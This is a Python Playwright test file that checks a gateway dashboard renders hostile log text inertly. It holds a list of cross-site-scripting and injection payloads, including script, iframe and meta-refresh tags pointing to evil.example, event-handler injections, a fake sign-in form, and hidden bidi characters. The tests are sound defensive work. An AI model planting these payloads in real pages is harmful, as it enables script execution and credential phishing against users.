"""Log text is written by strangers. Whatever it says, it is only text: nothing runs, nothing loads, nothing hides."""

from __future__ import annotations

import json
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Page, expect

from gateway_dash.sandbox import Store
from tests.browser.deleting import see_the_verdict, type_and_confirm
from tests.conftest import LOGS

EVIL = "http://evil.example"
MARKUP = (
    '<img class=evil src="http://evil.example/x.png" onerror="alert(1)">',
    '<script class="evil">alert(1)</script>',
    '<script class=evil src="//evil.example/x.js"></script>',
    '<div class=evil hx-get="/evil-get" hx-trigger="load" hx-target="body" data-hx-post="/evil-post">x</div>',
    '" hx-get="/evil-get" hx-trigger="load" class="evil',
    "' onmouseover='alert(1)' class='evil",
    '<base class=evil href="http://evil.example/">',
    '<meta class=evil http-equiv="refresh" content="0;url=http://evil.example/">',
    '<a class=evil href="javascript:alert(1)">x</a>',
    '<iframe class=evil src="http://evil.example/"></iframe>',
    '<svg class=evil onload="alert(1)"><use href="http://evil.example/#x"></use></svg>',
    '<style class=evil>@import "http://evil.example/x.css"; * { display: none }</style>',
    '</title></textarea></pre></script><link class=evil rel=stylesheet href="http://evil.example/x.css">',
    '<form class=evil id=results action="http://evil.example/"><input name=id><button>Sign in again</button></form>',
    "--><template class=evil shadowrootmode=open><p>x</p></template>",
    "{{ 7*7 }}{% include 'base.html' %}",
    '<input class=evil name=csrfmiddlewaretoken value=x autofocus onfocus="alert(1)">',
)
HIDDEN = {
    "\u202e": "⟦U+202E⟧",
    "\u2067": "⟦U+2067⟧",
    "\u200b": "⟦U+200B⟧",
    "\x1b": "⟦ESC⟧",
    "\x07": "⟦BEL⟧",
    "\ufeff": "⟦BOM⟧",
    "\u2028": "⟦U+2028⟧",
    "\U000e0041": "⟦U+E0041⟧",
}
SECRETIVE = "a" + "a".join(HIDDEN) + "a"
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


@pytest.fixture
def store():
    """Each text in every field that a stranger can fill, and in the bodies."""
    store = Store.seeded(5)
    for number, text in enumerate((*MARKUP, SECRETIVE)):
        store.add({
            "id": f"h{number}", "provider": text, "model": text, "path": text, "user_agent": text,
            "request_type": text, "model_type": text, "event_id": text, "request_content_type": text,
            "metadata": json.dumps({f"k{number}": text, text[:90]: "v"}),
            "request_body": json.dumps({"say": text}, ensure_ascii=False).encode(),
            "response_body": (text + "\n").encode() * 300,  # longer than the head: it comes by htmx
        })  # fmt: skip
    yield store
    store.close()


IDS = [f"h{number}" for number in range(len(MARKUP) + 1)]


def seen(text: str) -> str:
    """The text with a mark for each character that cannot be seen."""
    return "".join(HIDDEN.get(character, character) for character in text)


def assert_inert(page: Page, watch) -> None:
    """No element came of the text, no address was asked that it names, and nothing in the page turns its direction."""
    assert page.locator(".evil").count() == 0
    assert (
        page.locator("base, iframe, object, embed, meta[http-equiv], main script, main style, main link").count() == 0
    )
    assert page.locator("main img, [hx-get^='/evil'], [href^='javascript:' i], #results #results").count() == 0
    assert page.evaluate("document.baseURI") == page.url
    assert urlsplit(page.url).path.startswith("/gateways/") or urlsplit(page.url).path == "/find/"
    assert [each for each in watch.asked if "evil" in urlsplit(each).netloc + urlsplit(each).path] == []
    shown = page.evaluate("document.title + document.body.innerText")
    assert not set(shown) & set(BIDI)


def test_the_list_shows_hostile_text_as_text(any_page, watch):
    any_page.goto(LOGS)
    assert any_page.locator("tr[data-log-id]").count() >= len(IDS)
    assert_inert(any_page, watch)
    model = any_page.locator('tr[data-log-id="h1"] .model b')
    expect(model).to_have_text(MARKUP[1])
    hidden = any_page.locator(f'tr[data-log-id="{IDS[-1]}"] .model b')
    for mark in HIDDEN.values():
        expect(hidden).to_contain_text(mark)


def test_swapping_hostile_rows_in_runs_nothing(page, watch):
    page.goto(LOGS)
    for column in ("Provider", "model", "Time, UTC"):
        page.get_by_role("columnheader").get_by_role("link", name=column, exact=True).click()
        page.wait_for_load_state("networkidle")
        assert_inert(page, watch)
    assert len(watch.htmx_asked) == 3


@pytest.mark.parametrize("log_id", IDS)
def test_a_log_shows_hostile_text_as_text(page, watch, log_id):
    text = (*MARKUP, SECRETIVE)[IDS.index(log_id)]
    page.goto(f"{LOGS}{log_id}/raw/")
    expect(page.locator("#response .evidence")).to_contain_text("complete")
    assert_inert(page, watch)
    expect(page.locator("#response-text > span").first).to_have_text(seen(text))
    expect(page.locator(".fields tr", has_text="user_agent").locator("td")).to_have_text(seen(text))
    page.locator("#response-text > span").first.hover()
    page.goto(f"{LOGS}{log_id}/")
    expect(page.locator(".evidence", has_text="Response:")).to_contain_text("complete")
    assert_inert(page, watch)
    page.get_by_role("button", name="Save annotation").click()
    expect(page.locator("#annotation")).to_contain_text("Saved, and read again")
    assert_inert(page, watch)
    asked = {urlsplit(each).path for each in watch.htmx_asked}
    assert asked - {f"{LOGS}{log_id}/attempts/"} == {  # these are asked for where the event has another name
        f"{LOGS}{log_id}/place/",
        f"{LOGS}{log_id}/response/part/",
        f"{LOGS}{log_id}/conversation/",
        f"{LOGS}{log_id}/annotate/",
    }


def test_a_log_without_javascript_shows_hostile_text_as_text(plain_page, watch):
    for log_id in IDS:
        plain_page.goto(f"{LOGS}{log_id}/response/part/")
        assert_inert(plain_page, watch)


@pytest.mark.parametrize("text", [*MARKUP, SECRETIVE[2:5]])
def test_a_filter_by_hostile_text_is_text_in_the_sentence_the_chip_and_the_title(any_page, watch, text):
    any_page.goto(f"{LOGS}?model={quote(text)}")
    expect(any_page.locator("#list-h")).to_be_visible()
    assert_inert(any_page, watch)
    expect(any_page.locator(".chip")).to_have_count(1)


@pytest.mark.parametrize("text", MARKUP)
def test_an_address_of_hostile_text_is_refused_as_text(any_page, watch, text):
    watch.expect(400, 404)
    for url in (f"{LOGS}?{quote(text)}=1", f"{LOGS}?cost={quote(text)}", f"/find/?id={quote(text)}"):
        any_page.goto(url)
        assert_inert(any_page, watch)
        expect(any_page.get_by_role("heading", level=1)).to_be_visible()


def test_deleting_hostile_logs_shows_their_text_and_takes_them(any_page, watch, store):
    any_page.goto(LOGS)
    for log_id in IDS:
        any_page.locator(f'tr[data-log-id="{log_id}"] .c-pick input[type=checkbox]').check()
    any_page.get_by_role("button", name="Delete…").click()
    expect(any_page.get_by_role("heading", level=1)).to_contain_text(f"Delete {len(IDS)} logs")
    assert_inert(any_page, watch)
    any_page.get_by_label("Rows only").check()  # one has a content type that no header can say
    type_and_confirm(any_page)
    see_the_verdict(any_page)
    expect(any_page.get_by_role("heading", level=1)).to_contain_text(f"{len(IDS)} logs deleted")
    assert_inert(any_page, watch)
    assert [each for each in IDS if store.get(each)] == []


def test_a_download_is_never_shown_by_the_browser(page, watch, store):
    page.goto(f"{LOGS}h1/raw/")
    with page.expect_download() as started:
        page.locator("#response").get_by_role("link", name="Download").click()
    assert started.value.suggested_filename == "prod-edge-h1-response.bin"
    assert started.value.path().read_bytes() == store.body("h1", "response")
    assert page.url.endswith(f"{LOGS}h1/raw/")


# --- the watch itself -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("markup", "said"),
    [
        (f'<img src="{EVIL}/x.png">', "Content Security Policy"),
        ("<style>body { color: red }</style>", "Content Security Policy"),
        ('<p style="color: red">x</p>', "Content Security Policy"),
    ],
)
def test_the_watch_would_notice(page, watch, markup, said):
    """A guard that never barks proves nothing."""
    page.goto(LOGS)
    page.evaluate("markup => document.querySelector('main').insertAdjacentHTML('beforeend', markup)", markup)
    page.wait_for_timeout(200)
    assert any(said in each for each in watch.complaints)
    watch.complaints.clear()


@pytest.mark.parametrize("javascript", [True, False])
def test_the_watch_would_notice_a_foreign_image_in_a_page(open_browser, live_server, watch, javascript):
    page = open_browser(javascript=javascript)
    answer = {"body": f'<img src="{EVIL}/x.png">', "content_type": "text/html; charset=utf-8"}
    page.route("**/healthz", lambda route: route.fulfill(**answer))
    page.route(f"{EVIL}/**", lambda route: route.abort())
    page.goto("/healthz")
    page.wait_for_load_state("networkidle")
    assert f"request to elsewhere: {EVIL}/x.png" in watch.complaints
    watch.complaints.clear()


def test_the_watch_would_notice_a_script_that_fails_and_a_dialog(page, watch):
    page.goto(LOGS)
    page.evaluate("setTimeout(() => { alert('boo'); throw new Error('oh') }, 0)")
    page.wait_for_timeout(300)
    assert any("dialog: boo" in each for each in watch.complaints)
    assert any("oh" in each for each in watch.complaints)
    watch.complaints.clear()
